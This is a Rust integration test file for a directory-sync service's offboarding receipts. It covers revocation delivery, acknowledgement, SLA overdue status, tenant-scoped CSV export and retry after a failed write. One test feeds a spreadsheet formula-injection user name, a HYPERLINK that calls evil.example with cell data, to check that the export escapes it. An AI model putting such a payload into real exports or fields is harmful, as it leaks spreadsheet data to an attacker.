//! Receipts: every deactivation and deletion gets a revocation record — requested,
//! delivered (a read of a feed, a webhook), applied (the product's confirmation through the
//! operator API or a webhook answer) — with its time-to-revoke, an SLA that makes it
//! overdue, and one audit record per confirmation in the tenant's chained trail.

use std::sync::{Arc, Mutex};

use axum::http::StatusCode;
use axum::routing::post;
use serde_json::{Value, json};
use service::webhooks::{Deliverer, register_webhook};
use store::TenantSlug;
use store::testing::TestDatabase;

use crate::TestServer;
use crate::operator_api::{Directory, api_key, events};
use crate::webhooks::fast_retries;

store::backend_tests!(
    a_deactivation_is_delivered_confirmed_and_timed,
    a_webhook_answer_can_confirm_a_revocation,
    a_confirmation_that_cannot_be_written_is_asked_for_again_not_lost,
    an_unconfirmed_revocation_is_overdue_after_the_sla,
    the_admin_reads_and_exports_the_offboarding_records_of_its_own_tenant_only,
    an_exported_user_name_never_runs_as_a_spreadsheet_formula,
);

async fn call(server: &TestServer, key: &str, method: reqwest::Method, path: &str) -> (u16, Value) {
    let response = reqwest::Client::new().request(method, server.url(path)).bearer_auth(key).send().await.unwrap();
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

async fn revocations(server: &TestServer, key: &str, query: &str) -> Vec<Value> {
    let (status, body) =
        call(server, key, reqwest::Method::GET, &format!("/api/v1/tenants/acme/revocations{query}")).await;
    assert_eq!(status, 200, "{body}");
    body.as_array().unwrap().clone()
}

async fn a_deactivation_is_delivered_confirmed_and_timed(db: TestDatabase) {
    let server = TestServer::start(&db).await;
    let acme = Directory::new(&db, &server, "acme").await;
    let key = api_key(&db).await;
    let bob = acme.create_user("bob@acme.example").await;
    acme.patch(&format!("/Users/{bob}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
    let carol = acme.create_user("carol@acme.example").await;
    acme.send(reqwest::Method::DELETE, &format!("/Users/{carol}"), Value::Null).await;

    let listed = revocations(&server, &key, "").await;
    let summary: Vec<(&str, &str, &str)> = listed
        .iter()
        .map(|r| (r["user_name"].as_str().unwrap(), r["type"].as_str().unwrap(), r["status"].as_str().unwrap()))
        .collect();
    assert_eq!(
        summary,
        [("carol@acme.example", "user.deleted", "pending"), ("bob@acme.example", "user.deactivated", "pending")],
        "newest first"
    );

    // The product reads the directory's feed: delivered, not applied.
    let (status, page) = events(&server, &key, &acme.id.to_string(), "").await;
    assert_eq!(status, 200);
    let deactivation = page["events"].as_array().unwrap().iter().find(|e| e["type"] == "user.deactivated").unwrap();
    let cursor = deactivation["cursor"].as_str().unwrap().to_owned();
    let bob_record = revocations(&server, &key, "?user=BOB").await;
    assert_eq!(bob_record.len(), 1);
    assert_eq!(
        (bob_record[0]["status"].as_str(), bob_record[0]["delivered_via"].as_str()),
        (Some("delivered"), Some("feed"))
    );

    // It confirms once it has revoked access.
    let ack = format!("/api/v1/directories/{}/events/{cursor}/ack", acme.id);
    let (status, receipt) = call(&server, &key, reqwest::Method::POST, &ack).await;
    assert_eq!(status, 200, "{receipt}");
    assert_eq!(
        (receipt["type"].as_str(), receipt["already_applied"].as_bool()),
        (Some("user.deactivated"), Some(false))
    );
    let revocation = &receipt["revocation"];
    assert_eq!(revocation["user_id"], bob.as_str());
    assert_eq!(revocation["status"], "applied");
    assert!(revocation["applied_via"].as_str().unwrap().starts_with("api-key:"), "{revocation}");
    let ttr = revocation["time_to_revoke_seconds"].as_f64().unwrap();
    assert!((0.0..60.0).contains(&ttr), "{ttr}");
    // Again: nothing changes.
    let (status, again) = call(&server, &key, reqwest::Method::POST, &ack).await;
    assert_eq!((status, again["already_applied"].as_bool()), (200, Some(true)));
    assert_eq!(again["applied_at"], receipt["applied_at"]);
    assert_eq!(revocations(&server, &key, "?status=applied").await.len(), 1);

    // Carol's deletion, confirmed by its `GET /events` id.
    let url = server.url("/events?events=dsync.user.deleted");
    let listed: Value = reqwest::Client::new().get(url).bearer_auth(&key).send().await.unwrap().json().await.unwrap();
    let event_id = listed["data"][0]["id"].as_str().unwrap().to_owned();
    let (status, receipt) = call(&server, &key, reqwest::Method::POST, &format!("/api/v1/events/{event_id}/ack")).await;
    assert_eq!(status, 200, "{receipt}");
    assert_eq!(receipt["revocation"]["user_name"], "carol@acme.example");
    assert_eq!(receipt["revocation"]["delivered_via"], "feed", "read through GET /events first");

    // Any event can be confirmed; unknown ones are 404.
    let (status, created) =
        call(&server, &key, reqwest::Method::POST, &format!("/api/v1/directories/{}/events/1/ack", acme.id)).await;
    assert_eq!((status, created["type"].as_str()), (200, Some("user.created")));
    assert!(created.get("revocation").is_none());
    for path in [
        format!("/api/v1/directories/{}/events/999/ack", acme.id),
        format!("/api/v1/directories/{}/events/zero/ack", acme.id),
        "/api/v1/events/event_nope/ack".to_owned(),
    ] {
        let (status, problem) = call(&server, &key, reqwest::Method::POST, &path).await;
        assert_eq!(status, 404, "{path}: {problem}");
    }
    let (status, _) = call(&server, "scimk_wrong", reqwest::Method::POST, &ack).await;
    assert_eq!(status, 401);

    // Each confirmation is one record in the chained trail.
    let tenant = db.store.tenant_by_slug(&TenantSlug::parse("acme").unwrap()).await.unwrap().unwrap();
    let trail = db.store.tenant(tenant.id).audit_records(0, 1000).await.unwrap();
    let applied: Vec<Value> = trail
        .iter()
        .filter(|record| record.action == "revocation.applied")
        .map(|record| serde_json::from_str(&record.detail).unwrap())
        .collect();
    assert_eq!(applied.len(), 2);
    assert_eq!(applied[0]["user_name"], "bob@acme.example");
    assert!(applied[0]["time_to_revoke_ms"].as_i64().is_some());
    assert_eq!(trail.iter().filter(|record| record.action == "event.applied").count(), 1);
    server.audit.flush().await;
    let report = service::audit::verify_chain(&db.store, tenant.id).await.unwrap();
    assert_eq!(report.first_break, None);
}

/// A webhook receiver that revokes at once and says so: its answer confirms deactivations
/// (`"applied": true`) and nothing else. Notes the type of every event it receives; its URL.
async fn revoking_receiver(received: &Arc<Mutex<Vec<String>>>) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let received = Arc::clone(received);
    let app = axum::Router::new().route(
        "/hook",
        post(move |body: String| async move {
            let event: Value = serde_json::from_str(&body).unwrap();
            received.lock().unwrap().push(event["type"].as_str().unwrap().to_owned());
            (StatusCode::OK, axum::Json(json!({ "applied": event["type"] == "user.deactivated" })))
        }),
    );
    tokio::spawn(async move { axum::serve(listener, app).await });
    url
}

async fn a_webhook_answer_can_confirm_a_revocation(db: TestDatabase) {
    let server = TestServer::start(&db).await;
    let acme = Directory::new(&db, &server, "acme").await;
    let key = api_key(&db).await;
    let leaver = acme.create_user("leaver@acme.example").await;
    acme.patch(&format!("/Users/{leaver}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
    let received = Arc::new(Mutex::new(Vec::new()));
    let url = revoking_receiver(&received).await;
    let tenant = db.store.tenant_by_slug(&TenantSlug::parse("acme").unwrap()).await.unwrap().unwrap();
    let hook = register_webhook(
        &db.store,
        tenant.id,
        &url,
        &fast_retries(),
        &service::Actor::Cli,
        &service::Effects::system(),
    )
    .await
    .unwrap();
    let deliverer = Deliverer::new(db.store.clone(), fast_retries(), service::Effects::system()).unwrap();
    deliverer.deliver_pending().await.unwrap();
    assert_eq!(received.lock().unwrap().len(), 2);

    let listed = revocations(&server, &key, "").await;
    assert_eq!(listed.len(), 1);
    let via = format!("webhook:{}", hook.id);
    assert_eq!(listed[0]["status"], "applied", "{listed:?}");
    assert_eq!((listed[0]["delivered_via"].as_str(), listed[0]["applied_via"].as_str()), (Some(&*via), Some(&*via)));
    let trail = db.store.tenant(tenant.id).audit_records(0, 1000).await.unwrap();
    let applied: Vec<_> = trail.iter().filter(|record| record.action == "revocation.applied").collect();
    assert_eq!((applied.len(), applied[0].actor.as_str()), (1, "system"));
    // The creation's answer said `"applied": false`: not confirmed.
    assert_eq!(trail.iter().filter(|record| record.action == "event.applied").count(), 0);
}

async fn an_unconfirmed_revocation_is_overdue_after_the_sla(db: TestDatabase) {
    #[allow(clippy::disallowed_methods)] // the clock the test then moves
    let start = chrono::Utc::now();
    let clock = Arc::new(service::clock::ManualClock::starting_at(start));
    let server = TestServer::start_with_clock(&db, &["--revocation-sla-minutes", "10"], clock.clone()).await;
    let acme = Directory::new(&db, &server, "acme").await;
    let key = api_key(&db).await;
    let leaver = acme.create_user("leaver@acme.example").await;
    acme.patch(&format!("/Users/{leaver}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
    assert_eq!(revocations(&server, &key, "").await[0]["status"], "pending");
    assert!(revocations(&server, &key, "?status=overdue").await.is_empty());

    clock.advance(chrono::Duration::minutes(11));
    let overdue = revocations(&server, &key, "?status=overdue").await;
    assert_eq!(overdue.len(), 1);
    assert_eq!(overdue[0]["user_name"], "leaver@acme.example");
    let support = service::receipts::unapplied_by_tenant(&db.store, chrono::Duration::minutes(10), clock_now(&clock))
        .await
        .unwrap();
    assert_eq!(support.len(), 1);
    assert_eq!((support[0].tenant.slug.as_str(), support[0].unapplied, support[0].overdue), ("acme", 1, 1));
    let (status, problem) =
        call(&server, &key, reqwest::Method::GET, "/api/v1/tenants/acme/revocations?status=late").await;
    assert_eq!(status, 400, "{problem}");
}

fn clock_now(clock: &service::clock::ManualClock) -> chrono::DateTime<chrono::Utc> {
    service::Clock::now(clock)
}

async fn the_admin_reads_and_exports_the_offboarding_records_of_its_own_tenant_only(db: TestDatabase) {
    let server = TestServer::start(&db).await;
    let admin = crate::onboarding::admin_of(&server, "acme", "it@acme.example").await;
    let acme = Directory::new(&db, &server, "acme").await;
    let globex = Directory::new(&db, &server, "globex").await;
    let key = api_key(&db).await;
    for (directory, name) in [(&acme, "ada@acme.example"), (&acme, "al@acme.example"), (&globex, "gus@globex.example")]
    {
        let id = directory.create_user(name).await;
        directory.patch(&format!("/Users/{id}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
    }
    // The filter matches a part of the name or of the id: "ada" alone also matched a user
    // whose random id holds those hex digits (1 run in a few hundred acknowledged al).
    let of_ada = revocations(&server, &key, "?user=ada@acme").await;
    assert_eq!(of_ada.len(), 1, "{of_ada:?}");
    let ada_cursor = of_ada[0]["cursor"].as_str().unwrap().to_owned();
    let ack = format!("/api/v1/directories/{}/events/{ada_cursor}/ack", acme.id);
    assert_eq!(call(&server, &key, reqwest::Method::POST, &ack).await.0, 200);

    let page = admin.json("/api/offboarding", &[("filters[status]", "")]).await;
    let rows = page["rows"].as_array().unwrap();
    let names: Vec<&str> = rows.iter().map(|row| row["user_name"].as_str().unwrap()).collect();
    assert_eq!(names, ["al@acme.example", "ada@acme.example"], "newest first, this tenant's only");
    assert_eq!((rows[1]["status"].as_str(), rows[1]["change"].as_str()), (Some("applied"), Some("Deactivated")));
    let ttr = rows[1]["time_to_revoke"].as_str().unwrap();
    assert!(ttr.ends_with(" ms") || ttr.ends_with(" s"), "{page}");
    assert_eq!(rows[0]["status"], "pending");
    assert_eq!(page["sla_minutes"], 15);
    let applied = admin.json("/api/offboarding", &[("filters[status]", "applied")]).await;
    assert_eq!(applied["rows"].as_array().unwrap().len(), 1);
    let none = admin.json("/api/offboarding", &[("filters[user]", "nobody")]).await;
    assert_eq!((none["rows"].as_array().unwrap().len(), none["any"].as_bool()), (0, Some(true)));
    let refused = admin.call("/api/offboarding", &[("filters[status]", "late")]).await;
    assert_eq!(refused.status(), 422);

    // The CSV, as a browser asks for it (compressed) and without compression.
    for encoding in ["gzip", "br", "identity"] {
        let response = admin
            .get_request("/admin/offboarding/export?status=applied")
            .header("accept-encoding", encoding)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200, "{encoding}");
        assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
        let coding = response
            .headers()
            .get("content-encoding")
            .map_or_else(|| "identity".to_owned(), |coding| coding.to_str().unwrap().to_owned());
        assert_eq!(coding, encoding, "compressed as asked");
        let body = crate::audit_export::decode(&coding, &response.bytes().await.unwrap());
        let lines: Vec<&str> = body.lines().collect();
        assert_eq!(lines.len(), 2, "{encoding}: {body}");
        assert!(lines[0].starts_with("user_name,user_id,directory_id,directory,change,requested_at"), "{body}");
        assert!(lines[1].starts_with("ada@acme.example,") && lines[1].ends_with(",applied"), "{body}");
    }
    let bad = admin.get("/admin/offboarding/export?status=late").await;
    assert_eq!(bad.status(), 400);
    let anonymous = reqwest::Client::new().get(server.url("/admin/offboarding/export")).send().await.unwrap();
    assert_eq!(anonymous.status(), 401);
}

/// The identity provider chooses user names: one written as a formula is exported as text.
async fn an_exported_user_name_never_runs_as_a_spreadsheet_formula(db: TestDatabase) {
    let server = TestServer::start(&db).await;
    let admin = crate::onboarding::admin_of(&server, "acme", "it@acme.example").await;
    let acme = Directory::new(&db, &server, "acme").await;
    let names = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "@SUM(1+1)", "+1", "-1"];
    for name in names {
        let id = acme.create_user(name).await;
        acme.patch(&format!("/Users/{id}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
    }
    let response = admin.get_request("/admin/offboarding/export").header("accept-encoding", "identity").send().await;
    let body = response.unwrap().text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
    let mut exported: Vec<String> = reader.records().map(|record| record.unwrap()[0].to_owned()).collect();
    exported.sort();
    let mut expected: Vec<String> = names.iter().map(|name| format!("'{name}")).collect();
    expected.sort();
    assert_eq!(exported, expected, "{body}");
}

/// A webhook answer confirms a deactivation, but writing the confirmation fails (a trigger
/// refuses it, as a locked or unreachable database would): the delivery is not settled
/// either, so the next round sends the event again and its confirmation is written. (When
/// the delivery was settled before the confirmation was written, the confirmation was lost
/// and the revocation stayed unconfirmed for good.)
async fn a_confirmation_that_cannot_be_written_is_asked_for_again_not_lost(db: TestDatabase) {
    let server = TestServer::start(&db).await;
    let acme = Directory::new(&db, &server, "acme").await;
    let key = api_key(&db).await;
    let leaver = acme.create_user("leaver@acme.example").await;
    acme.patch(&format!("/Users/{leaver}"), json!([{"op": "replace", "path": "active", "value": false}])).await;
    let received = Arc::new(Mutex::new(Vec::new()));
    let url = revoking_receiver(&received).await;
    let tenant = db.store.tenant_by_slug(&TenantSlug::parse("acme").unwrap()).await.unwrap().unwrap();
    register_webhook(&db.store, tenant.id, &url, &fast_retries(), &service::Actor::Cli, &service::Effects::system())
        .await
        .unwrap();
    let postgres = db.url.as_str().starts_with("postgres");
    let refuse: &[&str] = if postgres {
        &[
            "CREATE FUNCTION refuse_receipts() RETURNS trigger LANGUAGE plpgsql AS \
             $$ BEGIN RAISE EXCEPTION 'injected failure'; END $$",
            "CREATE TRIGGER refuse_receipts BEFORE UPDATE OF applied_at ON revocations \
             FOR EACH ROW EXECUTE FUNCTION refuse_receipts()",
        ]
    } else {
        &["CREATE TRIGGER refuse_receipts BEFORE UPDATE OF applied_at ON revocations \
           BEGIN SELECT RAISE(ABORT, 'injected failure'); END"]
    };
    for statement in refuse {
        db.execute_as_owner(statement).await.unwrap();
    }
    let deliverer = Deliverer::new(db.store.clone(), fast_retries(), service::Effects::system()).unwrap();
    assert!(deliverer.deliver_pending().await.is_err(), "the confirmation could not be written");
    assert_eq!(*received.lock().unwrap(), ["user.created", "user.deactivated"]);
    assert_eq!(revocations(&server, &key, "").await[0]["status"], "pending", "nothing was settled either");

    let allow = if postgres { "DROP TRIGGER refuse_receipts ON revocations" } else { "DROP TRIGGER refuse_receipts" };
    db.execute_as_owner(allow).await.unwrap();
    deliverer.deliver_pending().await.unwrap();
    assert_eq!(*received.lock().unwrap(), ["user.created", "user.deactivated", "user.created", "user.deactivated"]);
    let listed = revocations(&server, &key, "").await;
    assert_eq!(listed[0]["status"], "applied", "{listed:?}");
    assert!(listed[0]["delivered_at"].as_str() <= listed[0]["applied_at"].as_str(), "{listed:?}");
    let trail = db.store.tenant(tenant.id).audit_records(0, 1000).await.unwrap();
    assert_eq!(trail.iter().filter(|record| record.action == "revocation.applied").count(), 1);
}
